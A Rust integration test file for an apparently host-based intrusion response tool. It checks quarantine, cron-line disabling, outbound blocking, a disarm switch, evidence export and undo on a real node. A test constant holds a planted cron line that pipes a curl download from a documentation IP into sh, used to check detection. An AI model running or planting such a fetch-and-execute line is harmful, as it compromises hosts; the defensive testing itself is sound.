//! Measures by hand on a real node: `serve` as root with its roles' own uids and rights, orders by the command line, each
//! seen on the node itself, the stop switch, evidence, and an undo after which everything is as it was.

use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::{Mutex, MutexGuard};
use std::time::{Duration, Instant};

use serde_json::Value;
use tests::rig::program;

/// Uids of sense, core, desk and of the tenant.
const OWN: [u32; 3] = [20310, 20311, 20312];
const TENANT: u32 = 20315;
const NAME: &str = "hkhands";
const SPOOL: &str = "/var/spool/cron/crontabs";
const TABLE: &str = "MAILTO=\"\"\n*/5 * * * * /bin/true\n";
/// A line that no cron runs, because the account is unknown outside of this test, from an address that nobody has.
const PLANTED: &str = "*/10 * * * * curl -fsSL http://198.51.100.77/i.txt | sh >/dev/null 2>&1\n";

/// One tenant, one crontab: one test at a time.
static ALONE: Mutex<()> = Mutex::new(());

struct Node {
    folder: tempfile::TempDir,
    serve: Option<Child>,
    _alone: MutexGuard<'static, ()>,
}

impl Node {
    fn begin() -> Option<Node> {
        let root = Command::new("id").arg("-u").output().is_ok_and(|o| o.stdout == b"0\n");
        if !root || !Path::new(SPOOL).is_dir() || !Path::new("/usr/sbin/nft").exists() {
            eprintln!("SKIPPED: measures by hand need root, cron and nftables");
            return None;
        }
        let folder = tempfile::Builder::new().prefix("hikeshi-hands-").tempdir().unwrap();
        let alone = ALONE.lock().unwrap_or_else(|e| e.into_inner());
        let node = Node { folder, serve: None, _alone: alone };
        std::fs::set_permissions(node.folder.path(), PermissionsExt::from_mode(0o711)).unwrap();
        for below in ["etc/accounts.d", "state", "run", "home/t/www"] {
            std::fs::create_dir_all(node.path(below)).unwrap();
        }
        let line = |name: &str, uid: u32| format!("{name}:x:{uid}:{uid}::/nonexistent:/usr/sbin/nologin\n");
        let [sense, core, desk] = OWN;
        let users = line("hikeshi-sense", sense) + &line("hikeshi-core", core) + &line("hikeshi-desk", desk);
        let tenant = format!("{NAME}:x:{TENANT}:{TENANT}::{}:/bin/bash\n", node.path("home/t").display());
        std::fs::write(node.path("etc/passwd"), users + &tenant).unwrap();
        std::fs::write(node.planted(), "inert\n").unwrap();
        (0..40).for_each(|i| std::fs::write(node.path(&format!("home/t/www/page{i}.html")), "page").unwrap());
        for path in ["home/t", "home/t/www", "home/t/www/x.php"] {
            chown(node.path(path), Some(TENANT), Some(TENANT)).unwrap();
        }
        std::fs::write(node.path("mail.log"), "").unwrap();
        let p = node.folder.path().display();
        let config = format!(
            "mode = \"enforce\"\n[node]\ntenant_uids = \"{TENANT}-{TENANT}\"\npasswd = \"{p}/etc/passwd\"\naccounts_dir = \"{p}/etc/accounts.d\"\n\
             [web]\napache = []\naccess_logs = []\n[mail]\nlog = \"{p}/mail.log\"\nhold_file = \"{p}/etc/postfix-hold\"\n\
             [login]\nlogs = []\nguarded_logs = []\n[notice]\nsmtp = \"127.0.0.1:21310\"\nfrom = \"support@host.example\"\n\
             [paths]\nstate = \"{p}/state\"\nrun = \"{p}/run\"\ngate = \"{p}/state/gate\"\netc = \"{p}/etc\"\nquarantine = [\"{p}/state/quarantine\"]\n"
        );
        std::fs::write(node.path("etc/hikeshi.toml"), config).unwrap();
        std::fs::write(crontab(), TABLE).unwrap();
        std::fs::set_permissions(crontab(), PermissionsExt::from_mode(0o600)).unwrap();
        chown(crontab(), Some(TENANT), None).unwrap();
        Some(node)
    }

    fn path(&self, below: &str) -> PathBuf {
        self.folder.path().join(below)
    }

    fn planted(&self) -> PathBuf {
        self.path("home/t/www/x.php")
    }

    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(program());
        command.arg("--config").arg(self.path("etc/hikeshi.toml")).args(arguments).stdin(Stdio::null());
        command.current_dir(self.folder.path());
        command
    }

    fn run(&self, arguments: &[&str]) -> Output {
        self.command(arguments).output().unwrap()
    }

    /// Runs a command that must succeed and returns what it printed.
    #[track_caller]
    fn said(&self, arguments: &[&str]) -> String {
        let output = self.run(arguments);
        let errors = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{arguments:?}: {errors}\n{}", self.log());
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    fn json(&self, arguments: &[&str]) -> Value {
        let output = self.run(&[arguments, &["--format", "json"]].concat());
        serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{arguments:?}: {e}\n{}", self.log()))
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.path("serve.log")).unwrap_or_default()
    }

    fn serve(&mut self) {
        let log = std::fs::File::create(self.path("serve.log")).unwrap();
        self.serve = Some(self.command(&["serve"]).stdout(Stdio::null()).stderr(log).spawn().unwrap());
        self.until("the roles are up", |node| {
            let status = node.json(&["status"]);
            let up = status["roles"].as_array().unwrap().iter().filter(|role| role[1] == true).count();
            up == 4 && status["accounts"] == 1
        });
        assert_eq!(self.json(&["status"])["unprotected"], serde_json::json!([]), "a restriction of a role is missing");
    }

    #[track_caller]
    fn until(&self, what: &str, test: impl Fn(&Node) -> bool) {
        let began = Instant::now();
        while !test(self) {
            assert!(began.elapsed() < Duration::from_secs(30), "never seen: {what}\n{}", self.log());
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn restrict(&self, what: &[&str]) {
        self.said(&[&["restrict", NAME], what, &["--reason", "seen by hand"]].concat());
    }
}

impl Drop for Node {
    fn drop(&mut self) {
        if let Some(mut serve) = self.serve.take() {
            let _ = Command::new("kill").args(["-TERM", &serve.id().to_string()]).status();
            let _ = serve.wait();
        }
        let _ = std::fs::remove_file(crontab());
    }
}

fn crontab() -> PathBuf {
    Path::new(SPOOL).join(NAME)
}

/// Whether the packet filter blocks the tenant.
fn blocked() -> bool {
    let table = Command::new("/usr/sbin/nft").args(["list", "table", "inet", "hikeshi"]).output().unwrap();
    String::from_utf8_lossy(&table.stdout).contains(&TENANT.to_string())
}

/// Everything about a file that an owner could notice.
fn facts(path: &Path) -> (Vec<u8>, u64, u32, u32, u32, i64, i64) {
    let meta = std::fs::metadata(path).unwrap();
    let bytes = std::fs::read(path).unwrap();
    (bytes, meta.ino(), meta.mode(), meta.uid(), meta.gid(), meta.mtime(), meta.mtime_nsec())
}

#[test]
fn measures_by_hand_hold_on_a_real_node_and_an_undo_brings_everything_back() {
    let Some(mut node) = Node::begin() else { return };
    node.serve();
    let (file, planted) = (facts(&node.planted()), node.planted());
    let folder = std::fs::metadata(node.path("home/t/www")).unwrap();
    let table = facts(&crontab());

    node.restrict(&["quarantine-file", "www/x.php"]);
    node.until("the file is set aside", |_| !planted.exists());
    node.restrict(&["disable-cron-line", "2"]);
    let marked = |_: &Node| std::fs::read_to_string(crontab()).unwrap().contains("\n#HK-");
    node.until("the line is off", marked);
    node.restrict(&["block-outbound"]);
    node.until("connections are blocked", |_| blocked());

    // The stop switch: nothing new, whoever orders it; what is in force stays.
    node.said(&["disarm", "--reason", "test"]);
    node.restrict(&["throttle-source", "203.0.113.9"]);
    let listed = node.json(&["incident", "list"]);
    let number = listed[0]["incident"].as_str().unwrap_or_else(|| panic!("{listed}")).to_owned();
    let shown = |node: &Node| node.said(&["incident", "show", &number]);
    node.until("the order is refused", |node| shown(node).contains("disarmed"));
    assert!(!planted.exists() && blocked() && node.json(&["status"])["disarmed"] == true);
    node.said(&["arm"]);

    // The log is whole, and act remembers its orders; what is kept can be taken along.
    let verified = node.json(&["evidence", "verify"]);
    assert!(verified["orders_compared"].as_u64().unwrap() >= 3, "{verified}");
    for more in [&[][..], &["--redacted"]] {
        let archive = format!("{}.tar.zst", more.len());
        node.said(&[&["evidence", "export", &number, "--out", &archive], more].concat());
        assert!(std::fs::read(node.path(&archive)).unwrap().starts_with(&[0x28, 0xb5, 0x2f, 0xfd]), "no zstd");
    }

    node.said(&["undo", &number, "--reason", "all of it was ours"]);
    node.until("the file is back", |_| planted.exists());
    node.until("the line is on", |_| std::fs::read_to_string(crontab()).unwrap() == TABLE);
    node.until("connections are open", |_| !blocked());
    node.until("the incident is closed", |node| node.json(&["incident", "list"]).as_array().unwrap().is_empty());
    assert_eq!(facts(&planted), file, "the file is not what it was");
    let (bytes, _, mode, uid, gid, seconds, nanoseconds) = facts(&crontab());
    assert_eq!((bytes, mode, uid, gid, seconds, nanoseconds), (table.0, table.2, table.3, table.4, table.5, table.6));
    let after = std::fs::metadata(node.path("home/t/www")).unwrap();
    assert_eq!((after.mtime(), after.mtime_nsec(), after.mode()), (folder.mtime(), folder.mtime_nsec(), folder.mode()));
}

#[test]
fn a_planted_line_is_switched_off_alone_explained_and_released_when_the_owner_deleted_it() {
    let Some(mut node) = Node::begin() else { return };
    std::fs::write(crontab(), format!("{TABLE}{PLANTED}")).unwrap();
    node.serve();
    let text = |_: &Node| std::fs::read_to_string(crontab()).unwrap();
    node.until("the line is off", |node| text(node).contains("\n#HK-"));
    let off = text(&node);
    assert!(off.starts_with(TABLE) && off.lines().count() == 3, "the owner's own lines stay: {off}");

    let listed = node.json(&["incident", "list"]);
    let number = listed[0]["incident"].as_str().unwrap_or_else(|| panic!("{listed}")).to_owned();
    let explained = node.json(&["explain", &number]);
    assert_eq!(explained.as_array().unwrap().len(), 1, "{explained}");
    assert_eq!((&explained[0]["kind"], &explained[0]["strength"]), (&"cron_download".into(), &"conclusive".into()));
    node.until("it is in force", |node| {
        node.json(&["explain", &number])[0]["decided"].to_string().contains("in force since")
    });
    let letters = |node: &Node| node.said(&["incident", "show", &number, "--letters"]);
    node.until("the letter names the line", |node| letters(node).contains("198.51.100"));

    // The owner's word alone opens nothing while a second such line is there.
    std::fs::write(crontab(), format!("{TABLE}{}", PLANTED.replace("i.txt", "j.txt"))).unwrap();
    node.said(&["incident", "reply", NAME, "done"]);
    node.until("the check found it", |node| {
        letters(node).contains("VerificationFailed") || letters(node).contains("failed")
    });
    std::fs::write(crontab(), TABLE).unwrap();
    node.said(&["incident", "reply", NAME, "done"]);
    node.until("it is being released", |node| {
        let state = node.json(&["incident", "list", "--all"])[0]["state"].to_string();
        state.contains("releasing") || state.contains("closed")
    });
    assert_eq!(text(&node), TABLE);

    // What a person knows to be harmless is permitted by name, with a reason and an end.
    node.said(&["allow", "add", &number, "--reason", "our own job", "--days", "3"]);
    let permitted = node.json(&["allow", "list"]);
    assert_eq!(
        (permitted.as_array().unwrap().len(), &permitted[0]["reason"]),
        (1, &"our own job".into()),
        "{permitted}"
    );
    let finding = permitted[0]["finding"].as_str().unwrap()[..12].to_owned();
    node.said(&["allow", "end", &finding, "--reason", "no longer"]);
    assert_eq!(node.json(&["allow", "list"]), serde_json::json!([]));
}
